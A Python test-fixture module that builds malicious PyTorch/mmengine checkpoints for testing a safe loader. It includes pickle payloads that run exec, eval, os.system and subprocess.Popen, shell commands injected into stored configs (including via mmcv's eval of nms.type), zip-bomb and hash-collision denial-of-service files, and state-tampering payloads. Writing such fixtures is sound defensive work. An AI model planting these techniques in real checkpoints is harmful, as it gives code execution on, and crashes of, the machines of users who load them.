"""Checkpoints an attacker would hand a user, one function per attack.

Each writes a file to ``path`` and returns it as a string. Code-running files create ``marker`` if
anything in them runs; the denial-of-service ones are small files that ask the allowed functions for
gigabytes or for endless hashing. Used by test_security.py, test_load.py and tests/scripts/load_attack.py.
"""
import collections
import copyreg
import os
import pickle
import struct
import subprocess
import warnings
import zipfile

import numpy as np
import torch
from mmengine.logging import HistoryBuffer


class Reduce:
    """Unpickles as ``func(*args)``, then BUILDs ``state`` on the result if given."""

    def __init__(self, func, args=(), state=None):
        self.func, self.args, self.state = func, args, state

    def __reduce__(self):
        return (self.func, self.args) if self.state is None else (self.func, self.args, self.state)


class NewObj:
    """Unpickles as ``cls.__new__(cls, *args)`` (pickle's NEWOBJ, what protocol 2 writes for plain
    classes such as HistoryBuffer), then BUILDs ``state`` on it if given."""

    def __init__(self, cls, args=(), state=None):
        self.cls, self.args, self.state = cls, args, state

    @property
    def __class__(self):  # pickle checks that NEWOBJ's class is the pickled object's
        return self.cls

    def __reduce__(self):
        return (copyreg.__newobj__, (self.cls, *self.args), self.state)


def _write_marker(marker):
    return f'open({str(marker)!r}, "w").write("pwned")'


PAYLOADS = {
    'exec': lambda marker: Reduce(exec, (_write_marker(marker), )),
    'eval': lambda marker: Reduce(eval, (_write_marker(marker), )),
    'os.system': lambda marker: Reduce(os.system, (f'touch {marker}', )),
    'subprocess.Popen': lambda marker: Reduce(subprocess.Popen, (['touch', str(marker)], )),
}


def code_running(path, marker, payload='exec', fmt='zip'):
    """A checkpoint-shaped dict whose ``meta`` runs ``payload`` when unpickled; ``fmt`` is 'zip',
    'legacy' (torch < 1.6's format) or 'raw-pickle'."""
    checkpoint = {'state_dict': {}, 'meta': {'note': PAYLOADS[payload](marker)}}
    if fmt == 'raw-pickle':
        with open(path, 'wb') as f:
            pickle.dump(checkpoint, f)
    else:
        torch.save(checkpoint, path, _use_new_zipfile_serialization=fmt == 'zip')
    return str(path)


def config_string(genuine, path, marker):
    """A genuine checkpoint made only of plain data, with code appended to every config text it stores:
    ``meta['cfg']`` and ``message_hub['runtime_info']['cfg']`` (what mmengine writes and its inferencers
    read) and ``meta['config']`` (what ``Runner.resume`` reads)."""
    checkpoint = torch.load(genuine, weights_only=False)  # the test's own file
    code = f'\n{_write_marker(marker)}\n'
    checkpoint['meta']['cfg'] += code
    checkpoint['meta']['config'] = checkpoint['meta']['cfg']
    checkpoint['message_hub']['runtime_info']['cfg'] += code
    torch.save(checkpoint, path)
    return str(path)


def _with_data_pkl(path, data_pkl):
    """A torch zip checkpoint whose data.pkl is ``data_pkl``."""
    torch.save({}, path)
    with zipfile.ZipFile(path) as archive:
        members = {info.filename: archive.read(info) for info in archive.infolist()}
    with zipfile.ZipFile(path, 'w') as archive:  # stored, as torch.save writes
        for name, data in members.items():
            archive.writestr(name, data_pkl if name.endswith('/data.pkl') else data)
    return str(path)


def nested_tuple_key(path, depth=100):
    """``{t: 1}`` where ``t = (t', t')`` nested ``depth`` times by shared reference: the pickle has
    ``depth`` tuples, hashing the key visits 2**depth of them."""
    ops = [b'\x80\x02})']  # PROTO 2, EMPTY_DICT, EMPTY_TUPLE
    for i in range(depth):  # BINPUT i, BINGET i, TUPLE2: (t, t) from the t on the stack
        ops.append(b'q' + bytes([i]) + b'h' + bytes([i]) + b'\x86')
    ops.append(b'K\x01s.')  # BININT1 1, SETITEM, STOP
    return _with_data_pkl(path, b''.join(ops))


def deflated_zip(path, nbytes=2**31):
    """A zip whose data.pkl is one string of ``nbytes`` spaces, deflated to a few MB."""

    def chunks(size=2**26):
        yield b'\x80\x02X' + struct.pack('<I', nbytes)
        for _ in range(nbytes // size):
            yield b' ' * size
        yield b'.'

    with zipfile.ZipFile(path, 'w', zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        with archive.open('archive/data.pkl', 'w', force_zip64=True) as f:
            for chunk in chunks():
                f.write(chunk)
        archive.writestr('archive/version', '3\n')
    return str(path)


def void_scalar(path, nbytes=10**9):
    """``numpy scalar(dtype('V<nbytes>'))``: numpy allocates and zeroes ``nbytes``."""
    scalar = Reduce(np._core.multiarray.scalar, (Reduce(np.dtype, (f'V{nbytes}', False, True)), ))
    torch.save({'meta': {'eta': scalar}}, path)
    return str(path)


def stride0_set(path, numel=2 * 10**6):
    """``set()`` of a tensor of ``numel`` elements viewing a 1-element storage with stride 0."""
    torch.save({'meta': {'ids': Reduce(set, (torch.zeros(1).expand(numel), ))}}, path)
    return str(path)


def huge_bytearray(path, nbytes=2**30):
    """``bytearray(nbytes)``: a zeroed buffer of that many bytes."""
    torch.save({'meta': {'buffer': Reduce(bytearray, (nbytes, ))}}, path)
    return str(path)


def _method(owner, name):
    return Reduce(getattr, (owner, name))


def swapped_statistics(path):
    """A HistoryBuffer whose pickled statistics table maps 'mean' to ``HistoryBuffer.max``: mmengine would
    merge it into the class-wide table, so every later log of every buffer reports maxima as means."""
    state = {'_log_history': np.array([1.0, 3.0]), '_count_history': np.array([1, 1]),
             'max_length': 1000000, 'statistics_methods': {'mean': _method(HistoryBuffer, 'max')}}
    buffer = NewObj(HistoryBuffer, (), state)
    torch.save({'state_dict': {}, 'message_hub': {'log_scalars': {'train/loss': buffer}}}, path)
    return str(path)


def rebuild_calls_method(path):
    """``torch._tensor._rebuild_from_type_v2`` calling ``HistoryBuffer.max`` (obtained through the
    allow-list's getattr stand-in) with arguments from the file."""
    call = Reduce(torch._tensor._rebuild_from_type_v2,
                  (_method(HistoryBuffer, 'max'), torch.Tensor, (Reduce(HistoryBuffer, ()), ), {}))
    torch.save({'state_dict': {}, 'meta': {'x': call}}, path)
    return str(path)


DENIAL_OF_SERVICE = {
    'nested-tuple-key': nested_tuple_key,
    'deflated-zip-2GiB': deflated_zip,
    'void-scalar-1e9': void_scalar,
    'set-of-stride0-tensor': stride0_set,
    'bytearray-2**30': huge_bytearray,
}
TAMPERING = {
    'swapped-statistics': swapped_statistics,
    'rebuild-calls-method': rebuild_calls_method,
}


# --- Second round: what the first round's checks read differently from torch and mmengine. ---

ATTACK_SCOPE = 'mmext_attack_scope'


def attack_scope_package(folder, marker, scope=ATTACK_SCOPE):
    """A package ``scope`` in ``folder`` whose import writes ``marker``: a module with import side
    effects, as any installed one may have, that mmengine imports for a scope name."""
    package = folder / scope
    package.mkdir(exist_ok=True)
    (package / '__init__.py').write_text(_write_marker(marker) + '\n')
    (package / 'registry.py').write_text('')
    return folder


def _edit_stored_config(genuine, path, edit):
    """A genuine checkpoint whose stored configs (``meta['cfg']``, ``message_hub`` ``runtime_info``)
    are replaced by ``edit(cfg)``'s, still plain data (what ``pretty_text`` writes)."""
    from mmengine.config import Config
    checkpoint = torch.load(genuine, weights_only=False)  # the test's own file
    cfg = Config.fromstring(checkpoint['meta']['cfg'], '.py')
    edit(cfg)
    text = cfg.pretty_text
    checkpoint['meta']['cfg'] = checkpoint['message_hub']['runtime_info']['cfg'] = text
    torch.save(checkpoint, path)
    return str(path)


def stored_config_model_type(genuine, path, marker):
    """The stored model is ``dict(type='os.system', command=...)``: a literal, run by MODELS.build."""
    def edit(cfg):
        cfg.model = dict(type='os.system', command=f'touch {marker}')
    return _edit_stored_config(genuine, path, edit)


def stored_config_pipeline_step(genuine, path, marker):
    """The genuine model and weights, and one more test-pipeline step that runs a shell command:
    without mmext the user gets a working inferencer and no warning."""
    def edit(cfg):
        cfg.test_dataloader.dataset.pipeline.append(dict(type='os.system', command=f'touch {marker}'))
    return _edit_stored_config(genuine, path, edit)


def stored_config_scope(genuine, path, marker, where, scope=ATTACK_SCOPE):
    """A scope name that imports the package ``scope`` (``Registry`` imports ``<scope>.registry``):
    ``where`` is 'model._scope_', 'visualizer.type' or 'test_dataloader.collate_fn'."""
    def edit(cfg):
        if where == 'model._scope_':
            cfg.model._scope_ = scope
        elif where == 'visualizer.type':
            cfg.visualizer.type = f'{scope}.Visualizer'
        else:
            cfg.test_dataloader.collate_fn = f'{scope}.collate'
    return _edit_stored_config(genuine, path, edit)


def stored_config_nms_eval(genuine, path, marker):
    """mmcv's ``batched_nms`` evaluates ``nms.type`` with ``eval``: a detector's stored test_cfg runs
    a shell command at its first prediction."""
    def edit(cfg):
        cfg.model.test_cfg.nms.type = f'__import__("os").system("touch {marker}") and "nms"'
    return _edit_stored_config(genuine, path, edit)


def stored_config_not_plain(genuine, path, text):
    """``text`` appended to the stored configs, including ``meta['config']`` (what ``Runner.resume``
    reads): e.g. a set with a list in it, or a range too long for len()."""
    checkpoint = torch.load(genuine, weights_only=False)
    for holder in (checkpoint['meta'], checkpoint['message_hub']['runtime_info']):
        holder['cfg'] += f'\n{text}\n'
    checkpoint['meta']['config'] = checkpoint['meta']['cfg']
    torch.save(checkpoint, path)
    return str(path)


def _long1(value):
    data = value.to_bytes((value.bit_length() + 8) // 8, 'little', signed=True)
    return b'\x8a' + bytes([len(data)]) + data


def colliding_int_keys(path, n=30000):
    """``{k * (2**61 - 1): None}`` for k < n: every key hashes to 0, so each insert compares against
    every earlier key (n**2 / 2 comparisons)."""
    ops = [b'\x80\x02}(']  # PROTO 2, EMPTY_DICT, MARK
    ops += [_long1(k * (2**61 - 1)) + b'N' for k in range(1, n + 1)]
    ops.append(b'u.')  # SETITEMS, STOP
    return _with_data_pkl(path, b''.join(ops))


def deep_tuple_key(path, depth=200000):
    """``{(((...(),),),): 1}`` nested ``depth`` deep: hashing the key recurses in C (no guard)."""
    return _with_data_pkl(path, b'\x80\x02})' + b'\x85' * depth + b'K\x01s.')


def object_array(path, numel=2**28):
    """``numpy.ndarray((numel,), 'O')``: REDUCE of an allowed class, numel pointers allocated."""
    torch.save({'meta': {'hist': Reduce(np.ndarray, ((numel, ), 'O'))}}, path)
    return str(path)


def stride0_array(path, numel=2**28):
    """``numpy.ndarray((numel,), 'f8', 8 bytes, 0, (0,))``: a stride-0 view of one float in a
    HistoryBuffer, which copies its histories into full arrays."""
    view = Reduce(np.ndarray, ((numel, ), 'f8', b'\0' * 8, 0, (0, )))
    buffer = NewObj(HistoryBuffer, (), {'_log_history': view, '_count_history': view, 'max_length': numel})
    torch.save({'message_hub': {'log_scalars': {'loss': buffer}, 'runtime_info': {}, 'resumed_keys': {}}},
               path)
    return str(path)


def newobj_void_scalar(path, nbytes=10**9):
    """``numpy.dtype.__new__(dtype, 'V<nbytes>')`` (NEWOBJ, not the REDUCE the first scan checked), then
    a scalar of it without data: numpy allocates and zeroes ``nbytes``."""
    scalar = Reduce(np._core.multiarray.scalar, (NewObj(np.dtype, (f'V{nbytes}', )), ))
    torch.save({'meta': {'eta': scalar}}, path)
    return str(path)


def case_variant_zip(path, nbytes=10**9):
    """A genuine ``archive/data.pkl`` that Python's zipfile finds, and an ``archive/DATA.PKL`` (a void
    scalar of ``nbytes``) that torch's reader, which ignores case, unpickles instead."""
    void_scalar(path, nbytes)
    with zipfile.ZipFile(path) as archive:
        members = {info.filename: archive.read(info) for info in archive.infolist()}
    prefix = next(iter(members)).split('/')[0]
    benign = pickle.dumps({}, protocol=2)
    with zipfile.ZipFile(path, 'w') as archive:
        for name, data in members.items():
            if name == f'{prefix}/data.pkl':  # miniz's binary search finds the later of the two
                archive.writestr(name, benign)
                archive.writestr(f'{prefix}/DATA.PKL', data)
            else:
                archive.writestr(name, data)
    return str(path)


def legacy_redeclared_storage(path, numel=10**9):
    """The legacy format with storage '0' declared for ``numel`` floats, then again for one float, and
    one float of data: torch allocates the first declaration."""

    class Storage:
        def __init__(self, numel):
            self.numel = numel

    class Pickler(pickle.Pickler):
        def persistent_id(self, obj):
            if isinstance(obj, Storage):
                return ('storage', torch.FloatStorage, '0', 'cpu', obj.numel, None)
            return None

    def tensor(numel):
        return Reduce(torch._utils._rebuild_tensor_v2,
                      (Storage(numel), 0, (numel, ), (1, ), False, collections.OrderedDict()))

    with open(path, 'wb') as f:
        for header in (0x1950a86a20f9469cfc6c, 1001, dict(protocol_version=1001, little_endian=True,
                                                           type_sizes=dict(short=2, int=4, long=4))):
            pickle.dump(header, f, protocol=2)
        Pickler(f, protocol=2).dump({'a': tensor(numel), 'b': tensor(1)})
        pickle.dump(['0'], f, protocol=2)
        f.write(struct.pack('<q', 1) + b'\0' * 4)
    return str(path)


def history_buffer_state(path, **state):
    """A HistoryBuffer (pickled as protocol 2 writes it: NEWOBJ, BUILD) with ``state`` over a genuine
    one's (a value of ``...`` removes the attribute), in a message hub."""
    genuine = {'_log_history': np.array([1.0, 3.0]), '_count_history': np.array([1, 1]), 'max_length': 10}
    state = {name: value for name, value in {**genuine, **state}.items() if value is not ...}
    buffer = NewObj(HistoryBuffer, (), state)
    torch.save({'state_dict': {}, 'message_hub': {'log_scalars': {'train/loss': buffer}, 'runtime_info': {},
                                                  'resumed_keys': {'train/loss': True}}}, path)
    return str(path)


def shadowing_state_dict(path):
    """A state dict (OrderedDict) whose pickled ``__dict__`` sets ``keys``: the instance attribute
    shadows the method, and mmengine's load_state_dict fails on it."""
    state = Reduce(collections.OrderedDict, (), {'keys': 1, '_metadata': {}})
    torch.save({'state_dict': state}, path)
    return str(path)


def shadowing_tensor_state(path):
    """A tensor rebuilt with ``_rebuild_from_type_v2`` and the attribute ``size`` set on it."""
    with warnings.catch_warnings():
        warnings.simplefilter('ignore')
        storage = torch.storage.TypedStorage(2)
    args = (torch._utils._rebuild_tensor_v2, torch.Tensor,
            (storage, 0, (2, ), (1, ), False, collections.OrderedDict()), {'size': 1})
    torch.save({'state_dict': {'w': Reduce(torch._tensor._rebuild_from_type_v2, args)}}, path)
    return str(path)


def parameter_set_view(path, numel=2 * 10**6):
    """``Parameter.__new__`` then BUILD, which torch's unpickler turns into ``Tensor.set_`` with a
    stride-0 view of ``numel`` elements over one, then ``set()`` of it."""
    with warnings.catch_warnings():  # TypedStorage is deprecated, and what Tensor.set_ takes
        warnings.simplefilter('ignore')
        storage = torch.storage.TypedStorage(1)
    param = NewObj(torch.nn.Parameter, (torch.zeros(1), False), (storage, 0, (numel, ), (0, )))
    torch.save({'meta': {'ids': Reduce(set, (param, ))}}, path)
    return str(path)


SECOND_ROUND_DENIAL_OF_SERVICE = {
    'colliding-int-keys': colliding_int_keys,
    'deep-tuple-key': deep_tuple_key,
    'object-array': object_array,
    'stride0-array-in-history': stride0_array,
    'newobj-void-scalar': newobj_void_scalar,
    'case-variant-data-pkl': case_variant_zip,
    'legacy-redeclared-storage': legacy_redeclared_storage,
    'parameter-set-view': parameter_set_view,
}
SECOND_ROUND_TAMPERING = {
    'history-shadows-update': lambda path: history_buffer_state(path, update=1),
    'history-shadows-statistics-table': lambda path: history_buffer_state(
        path, _statistics_methods={'mean': _method(HistoryBuffer, 'max')}),
    'history-without-log': lambda path: history_buffer_state(path, _log_history=...),
    'state-dict-shadows-keys': shadowing_state_dict,
    'tensor-shadows-size': shadowing_tensor_state,
}
